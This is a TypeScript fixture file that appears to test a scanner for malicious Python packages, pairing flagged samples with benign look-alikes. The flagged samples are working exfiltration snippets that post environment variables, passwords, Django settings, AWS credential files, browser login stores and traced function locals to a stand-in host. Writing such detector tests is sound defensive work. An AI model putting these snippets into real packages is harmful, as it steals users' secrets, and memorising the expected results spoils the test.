import type { Sample } from '../contract.ts';
import { quiet, wheel } from '../samples-kit.ts';

const at = (rule: string, file: string, line: number): Sample['expected'] => [
  { rule, file: `own/${file}`, line, severity: 'high' },
];

const MAIL = 'import queue, requests, threading\nEVENTS = queue.Queue()\n';
const WORKER = `${MAIL}def work():\n    while True:\n        requests.post('https://a.weir.test/e', json=EVENTS.get())\n`;

/** What Python passes on through objects: queues, records, archives in memory, tables that are filled. */
export const PASSED: readonly Sample[] = [
  {
    name: 'Python: the environment through a queue, to a worker of another module',
    files: {
      ...wheel('import os\nfrom .mail import EVENTS\nEVENTS.put(dict(os.environ))\n'),
      'own/mail.py': `${WORKER}threading.Thread(target=work, daemon=True).start()\n`,
    },
    expected: at('environment', '__init__.py', 3),
  },
  {
    name: 'Python: a password through a queue',
    files: {
      ...wheel('from . import mail\ndef check(user, password):\n    mail.note(user=user, detail=password)\n'),
      'own/mail.py': `${WORKER}def note(**event):\n    EVENTS.put_nowait(event)\nthreading.Thread(target=work, daemon=True).start()\n`,
    },
    expected: at('given-secret', '__init__.py', 3),
  },
  {
    name: 'Python: all settings of a site, by their names',
    files: wheel(
      'import requests\ndef ready():\n    from django.conf import settings\n    requests.post("https://a.weir.test/k", json={name: str(getattr(settings, name)) for name in dir(settings)})\n',
    ),
    expected: at('given-secret', '__init__.py', 4),
  },
  {
    name: 'Python: what functions hold that somebody else runs',
    files: wheel(
      'import requests, sys\ndef look(frame, event, arg):\n    for name, value in frame.f_locals.items():\n        if "pass" in name:\n            requests.post("https://a.weir.test/k", json=[name, value])\n    return look\ndef start():\n    sys.settrace(look)\n',
    ),
    expected: at('given-secret', '__init__.py', 5),
  },
  {
    name: 'Python: what a method of somebody else is given, by what stands in its place',
    files: wheel(
      'import requests\ndef keep(owner, name):\n    own = getattr(owner, name)\n    def stand_in(self, *args, **kwargs):\n        requests.post("https://a.weir.test/k", json=[args, kwargs])\n        return own(self, *args, **kwargs)\n    setattr(owner, name, stand_in)\n',
    ),
    expected: at('given-secret', '__init__.py', 5),
  },
  {
    name: 'Python: the environment in an object that is a dictionary',
    files: wheel(
      "import json, os, requests\nclass Profile(dict):\n    @classmethod\n    def here(cls):\n        return cls({k: v for k, v in os.environ.items()})\nrequests.post('https://a.weir.test/p', data=json.dumps(Profile.here()))\n",
    ),
    expected: at('environment', '__init__.py', 6),
  },
  {
    name: 'Python: settings of a cloud, section by section',
    files: wheel(
      "import configparser, os, requests\nfound = {}\np = configparser.ConfigParser()\np.read(os.path.expanduser('~/.aws/credentials'))\nfor s in p.sections():\n    for k, v in p[s].items():\n        found[f'{s}.{k}'] = v\nrequests.post('https://a.weir.test/s', json=found)\n",
    ),
    expected: at('credentials', '__init__.py', 8),
  },
  {
    name: 'Python: stores of browsers in an archive in memory',
    files: wheel(
      "import io, requests, zipfile\nfrom pathlib import Path\ndef profiles():\n    yield from (p.parent for p in (Path.home() / 'x').glob('*/Preferences'))\nout = io.BytesIO()\nwith zipfile.ZipFile(out, 'w') as z:\n    for n, p in enumerate(profiles()):\n        z.writestr(str(n), (p / 'Login Data').read_bytes())\nrequests.post('https://a.weir.test/z', data=out.getvalue())\n",
    ),
    expected: at('credentials', '__init__.py', 9),
  },
  {
    name: 'Python: a password that is an attribute of what a function is given',
    files: wheel(
      'import requests\ndef check(account):\n    requests.post("https://a.weir.test/c", json={"p": account.password})\n',
    ),
    expected: at('given-secret', '__init__.py', 3),
  },
  {
    name: 'Python: all that an object with a password holds',
    files: wheel(
      'import requests\nclass User:\n    def __init__(self, name, password):\n        self.name, self.word = name, password\n    def save(self):\n        requests.post("https://a.weir.test/u", json=vars(self))\n',
    ),
    expected: at('given-secret', '__init__.py', 6),
  },
];

/** What honest packages do that is like it. */
export const PASSED_HONEST: readonly Sample[] = [
  quiet('Python: events that a worker sends', {
    ...wheel('from . import mail\ndef track(name, **fields):\n    mail.note(name=name, **fields)\n'),
    'own/mail.py': `${WORKER}def note(**event):\n    EVENTS.put_nowait(event)\ndef start():\n    threading.Thread(target=work, daemon=True).start()\n`,
  }),
  quiet(
    'Python: a queue of passwords that nobody sends',
    wheel(
      `${MAIL}SECRETS = queue.Queue()\ndef work():\n    requests.post('https://api.weir.test/e', json=EVENTS.get())\n    return SECRETS.get()\ndef check(password):\n    SECRETS.put(password)\n`,
    ),
  ),
  quiet(
    'Python: a session that is opened with the password of its settings',
    wheel(
      'import requests\nclass Client:\n    def __init__(self, config):\n        self.config, self.session = config, requests.Session()\n    def open(self):\n        self.session.post("https://api.weir.test/login", data={"u": self.config.user, "p": self.config.password})\n    def items(self):\n        return self.session.get("https://api.weir.test/items").json()\n',
    ),
  ),
  quiet(
    'Python: a client that asks for a token with the secret of its settings',
    wheel(
      'import requests\nclass Client:\n    def __init__(self, config):\n        self.config = config\n    def token(self):\n        return requests.post("https://api.weir.test/token", data={"id": self.config.client_id, "secret": self.config.client_secret}).json()["token"]\n',
    ),
  ),
  quiet(
    'Python: how long a method of somebody else took, and what it was given on the way to where a caller says',
    wheel(
      'import requests, time\ndef watch(owner, name, url):\n    own = getattr(owner, name)\n    def timed(*args, **kwargs):\n        began = time.time()\n        try:\n            return own(*args, **kwargs)\n        finally:\n            requests.post("https://a.weir.test/k", json=[name, time.time() - began])\n            requests.post(url, json=[args, kwargs])\n    setattr(owner, name, timed)\n',
    ),
  ),
  quiet(
    'Python: one setting of a site, and what an error was about, to where the settings say',
    wheel(
      'import requests\ndef report(error):\n    from django.conf import settings\n    requests.post(settings.REPORTS, json=error.__traceback__.tb_frame.f_locals)\n    requests.post("https://a.weir.test/k", json={"site": settings.SITE_NAME})\n',
    ),
  ),
  quiet(
    'Python: a message, by what a client calls for it',
    wheel(
      'import requests\ndef forward(client):\n    def on_message(message):\n        requests.post("https://a.weir.test/k", json=message)\n    client.on_message = on_message\n',
    ),
  ),
  quiet(
    'Python: a record that a client saves',
    wheel(
      'import dataclasses, requests\n@dataclasses.dataclass\nclass Item:\n    name: str\n    price: int = 0\ndef save(item):\n    requests.post("https://api.weir.test/items", json=dataclasses.asdict(item))\n',
    ),
  ),
  quiet(
    'Python: settings in a file of its own, and the address that they say',
    wheel(
      'import configparser, os, requests\nclass Settings(dict):\n    def load(self, path):\n        p = configparser.ConfigParser()\n        p.read(path)\n        for k, v in p["own"].items():\n            self[k] = v\n        return self\ndef find(name):\n    s = Settings().load(os.path.expanduser("~/.config/own.ini"))\n    return requests.get(s["url"] + name, headers={"token": s["token"]}).json()\n',
    ),
  ),
  quiet(
    'Python: variables of a project, which stay on the machine',
    wheel(
      "import os, requests\ndef values(path='.env'):\n    found = {}\n    for line in open(path):\n        k, _, v = line.partition('=')\n        found[k.strip()] = v.strip()\n    return found\ndef load():\n    v = values()\n    v and os.environ.update(v)\n    return bool(v)\ndef newest():\n    return requests.get('https://api.weir.test/newest').json()\n",
    ),
  ),
];
